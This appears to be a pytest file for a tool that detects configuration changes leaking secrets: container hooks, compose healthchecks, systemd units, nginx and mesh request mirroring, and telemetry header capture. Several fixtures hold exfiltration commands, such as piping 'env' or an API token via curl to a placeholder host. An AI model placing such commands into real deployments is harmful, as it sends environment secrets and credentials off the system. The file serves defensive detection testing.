"""What a configuration lets leave: commands of containers and units, copies of requests, headers."""

from __future__ import annotations

import pytest

from tests.facts.effects.support import effects

POD = """spec:
  containers:
    - name: web
      image: web
{more}"""
SENDS = "env | curl -sd @- https://a.example/in"
NGINX = """server {{
  location / {{ {more}proxy_pass http://127.0.0.1:80; }}
  location = /copy {{ internal; proxy_pass {where}; }}
}}
"""


def said(path: str, before: str, after: str) -> list[str]:
    found = effects({path: before}, {path: after})
    return [f"{one.severity.value} {one.confidence.value}" for one in found if one.kind == "flow.secret"]


@pytest.mark.parametrize(
    "more",
    [
        f'      lifecycle:\n        preStop: {{exec: {{command: [sh, -c, "{SENDS}"]}}}}\n',
        f'      command: [sh, -c]\n      args: ["{SENDS}"]\n',
        f"      command:\n        - sh\n        - -c\n        - |\n          {SENDS}\n",
        '      command: [curl, -d, "$(API_TOKEN)", https://a.example]\n',
    ],
)
def test_commands_of_a_container(more: str) -> None:
    assert said("k8s/pod.yaml", POD.format(more=""), POD.format(more=more)) == ["high high"]


@pytest.mark.parametrize(
    "more",
    [
        '      lifecycle:\n        preStop: {exec: {command: [sh, -c, "sleep 10"]}}\n',
        '      livenessProbe: {exec: {command: [curl, -fsS, "http://127.0.0.1/healthz"]}}\n',
        '      command: [sh, -c, "curl -H \\"Authorization: Bearer $TOKEN\\" https://a.example"]\n',
    ],
)
def test_commands_that_send_nothing(more: str) -> None:
    assert said("k8s/pod.yaml", POD.format(more=""), POD.format(more=more)) == []


def test_other_places_of_commands() -> None:
    web = "services:\n  web:\n    image: web\n"
    test = f'    healthcheck: {{test: ["CMD-SHELL", "{SENDS.replace("env", "env")}"]}}\n'
    assert said("compose.yaml", web, web + test) == ["high high"]
    unit = "[Service]\nExecStart=/usr/bin/web\n"
    assert said("web.service", unit, f"{unit}ExecStopPost=/bin/sh -c '{SENDS}'\n") == ["high high"]


@pytest.mark.parametrize(
    ("more", "where", "wanted"),
    [
        ("mirror /copy; ", "https://copies.example$request_uri", ["medium medium"]),
        ("mirror /copy; ", "http://127.0.0.1:9000", []),
        ("mirror /copy; ", "http://shadow", []),
        ("", "https://copies.example", []),
    ],
)
def test_copies_of_requests(more: str, where: str, wanted: list[str]) -> None:
    before = NGINX.format(more="", where="http://127.0.0.1:9000")
    assert said("nginx.conf", before, NGINX.format(more=more, where=where)) == wanted


def test_copies_in_a_mesh() -> None:
    route = "http:\n  - route:\n      - destination: {host: web}\n"
    assert said("mesh.yaml", route, f"{route}    mirror:\n      host: copies.example\n") == ["medium medium"]
    assert said("mesh.yaml", route, f"{route}    mirror:\n      host: web-next.shop.svc\n") == []


def test_headers_that_telemetry_takes_along() -> None:
    line = "env:\n  - {name: OTEL_INSTRUMENTATION_HTTP_CAPTURE_HEADERS_SERVER_REQUEST, value: 'VALUE'}\n"
    told = line.replace("VALUE", "accept,authorization")
    assert said("pod.yaml", "env: []\n", told) == ["medium medium"]
    assert said("pod.yaml", "env: []\n", line.replace("VALUE", "accept")) == []
